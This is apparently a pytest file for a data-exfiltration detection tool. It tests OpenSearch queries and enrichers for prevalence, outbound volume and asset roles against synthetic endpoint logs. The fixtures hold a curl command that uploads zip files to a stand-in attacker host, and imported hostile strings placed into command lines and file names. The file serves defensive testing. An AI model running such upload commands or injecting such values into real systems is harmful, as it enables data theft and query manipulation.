"""Against a real OpenSearch: values of findings, whatever is in them, ask for what they name and for nothing else.

What comes is what our own matcher finds in the same records in a file, which no query language has touched.
"""

import asyncio
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from exfilwatch.errors import SourceError
from exfilwatch.events.event import Event
from exfilwatch.siem.registry import open_siem
from exfilwatch_playbooks.enrichment import asking
from exfilwatch_playbooks.enrichment.enrichers.asset_index import AssetIndex
from exfilwatch_playbooks.enrichment.enrichers.prevalence import Prevalence
from exfilwatch_playbooks.enrichment.enrichers.volume import Volume
from exfilwatch_playbooks.enrichment.history import History, Paths, Source, Watch
from exfilwatch_playbooks.enrichment.registry import opened
from exfilwatch_playbooks.enrichment.span import micros

from ..hostile_values import KINDS  # noqa: TID252 (tests are no package on the path)
from ..siem.engines import KEYWORDS, Engine, engine  # noqa: TID252
from .made import START, UPLOAD, connection, days, make, means, process, subject_of

LOW, HIGH = micros(START - timedelta(days=1)), micros(START + timedelta(days=1))
HALF = re.compile("[\ud800-\udfff]")
FEW = [value for kind, values in KINDS.items() for value in (values[::8] if kind == "pairs" else values)]
HOSTILE = [value for value in FEW if value.strip() and len(value) < 4_000 and not HALF.search(value)]
"""Records in JSON hold no halves of surrogate pairs: what reads them makes something else of these."""


@pytest.fixture
def searching(request: pytest.FixtureRequest) -> Iterator[Engine]:
    with engine("opensearch", request.getfixturevalue("opensearch")) as found:
        yield found


def put(searching: Engine, records: list[dict[str, Any]]) -> None:
    searching.create(mappings=KEYWORDS)
    searching.put(records)


def stamped(record: dict[str, Any]) -> dict[str, Any]:
    """As a shipper writes it, with the time of the event as `@timestamp`."""
    return {"@timestamp": f"{record['UtcTime'].replace(' ', 'T')}Z", **record}


def documents() -> list[dict[str, Any]]:
    """A process and a file for each value, which is a part of each of their texts."""
    made = []
    for at, value in enumerate(HOSTILE):
        when = START + timedelta(seconds=at)
        made.append(stamped(process(when, value, value, f"curl {value} x{at}", Image=f"C:\\x\\{value}")))
        file = {**process(when, "WS1", "x", "a"), "EventID": 11, "TargetFilename": f"C:\\y\\{value}"}
        made.append(stamped({key: each for key, each in file.items() if key != "CommandLine"}))
    return made


def told(source: Source, asked: list[tuple[Any, str]]) -> list[set[str]]:
    """For each question what came of it, as the texts of the records."""
    found: list[set[str]] = [set() for _ in asked]

    def taking(at: int) -> Any:
        def take(event: Event) -> None:
            names = ("Computer", "CommandLine", "TargetFilename", "Image")
            found[at].add(json.dumps([event.category, *(event.get(name) for name in names)]))

        return take

    async def ask() -> None:
        history = History([source])
        watches = [Watch(rules, LOW, HIGH, taking(at), host) for at, (rules, host) in enumerate(asked)]
        await asyncio.gather(*map(history.watch, watches))
        await history.close()
        if hasattr(source, "close"):
            await source.close()

    asyncio.run(ask())
    return found


def test_halves_of_surrogate_pairs_break_no_question(searching):
    put(searching, documents()[:2])
    asked = [(asking.files_named("a\ud800b"), ""), (asking.commands_like("curl \udfff#", "\ud800"), "")]
    assert told(open_siem("real", searching.settings()), asked) == [set(), set()]


@pytest.mark.slow
def test_hostile_values_ask_for_what_they_name(searching, tmp_path: Path):
    records = documents()
    put(searching, records)
    file = tmp_path / "a.jsonl"
    file.write_text("".join(json.dumps(each) + "\n" for each in records))
    asked: list[tuple[Any, str]] = []
    for value in HOSTILE:
        asked.append((asking.files_named(value), ""))
        asked.append((asking.commands_like(f"curl {value} x#", value), ""))
    asked += [(asking.starts_on(value), value) for value in HOSTILE[::8]]
    there = told(open_siem("real", searching.settings()), asked)
    here = told(Paths((str(file),)), asked)
    wrong = [
        (HOSTILE[at // 2 % len(HOSTILE)], a ^ b) for at, (a, b) in enumerate(zip(there, here, strict=True)) if a != b
    ]
    assert wrong == []
    assert len(HOSTILE) > 200
    assert all(here[: 2 * len(HOSTILE) : 2])  # each file was found, so that there was something to compare


def test_prevalence_and_volume_from_a_real_search_engine(searching):
    host, address = "files.evil-host.net", "8.8.4.4"
    records = [
        stamped(process(days(29.5), "SRV9", "CORP\\x", "notepad.exe a.txt")),
        *(
            stamped(process(days(9 - at), f"WS{at}", f"CORP\\u{at}", f"curl -T C:\\x\\p{at}.zip https://{host}/in"))
            for at in range(3)
        ),
        stamped({**process(START, "WS1", "x", "x"), "EventID": 22, "QueryName": host, "QueryResults": f"{address};"}),
        stamped(
            {
                **process(START, "WS1", "CORP\\anna", "x"), "EventID": 3, "Protocol": "tcp", "Initiated": "true",
                "SourceIp": "10.0.0.5", "DestinationIp": address, "DestinationPort": 443,
            }
        ),
    ]  # fmt: skip
    put(searching, records)
    zeek = {**connection(START, "10.0.0.5", address, 1_200_000_000), "@timestamp": f"{START:%Y-%m-%dT%H:%M:%SZ}"}
    searching.create("zeek", mappings=KEYWORDS)
    searching.put([zeek], "zeek")

    async def ask():
        siem = open_siem("real", searching.settings())
        given = means(None, siem)
        try:
            return [
                await Prevalence("prevalence", Prevalence.Settings(), given).survey(subject_of(UPLOAD)),
                await Volume("volume", Volume.Settings(), given).survey(subject_of(UPLOAD)),
            ]
        finally:
            await given.history.close()
            await siem.close()

    said = {(about, each.key): each.value for survey in asyncio.run(ask()) for about, each in survey.answers}
    assert said[host, "prevalence.hosts"] == "3"
    assert said[host, "prevalence.new"] == "no"
    assert said[host, "prevalence.first"] == "2024-04-22 09:00 UTC"
    assert said[host, "volume.bytes_out"] == "1.2 GB"


@pytest.mark.parametrize("mapping", [KEYWORDS, {}], ids=["keyword", "text"])
def test_role_and_owner_from_an_index(searching, mapping):
    searching.create("assets", mappings=mapping)
    searching.put(
        [
            {"host": "ws1.corp.local", "role": "Payroll", "criticality": "High", "floor": 3, "tags": ["a"]},
            {"host": "WS11", "role": "Kiosk"},
            {"host": "10.1.1.1", "role": "Backup server"},
        ],
        "assets",
    )
    subject = subject_of(make("a", CommandLine="curl -T a.zip http://10.1.1.1/"))

    async def ask(**more: str):
        table = {"url": searching.server.url, "index": searching.name("assets"), **more}
        enricher = opened("asset_index", table, means())
        assert isinstance(enricher, AssetIndex)
        try:
            return (await enricher.survey(subject)).answers
        finally:
            await enricher.close()

    assert {(about, each.key): each.value for about, each in asyncio.run(ask())} == {
        ("", "asset.role"): "Payroll",
        ("", "asset.criticality"): "high",
        ("", "asset.floor"): "3",
        ("10.1.1.1", "destination.role"): "Backup server",
    }
    with pytest.raises(SourceError, match="answered 404"):
        asyncio.run(ask(index="no-such-index"))
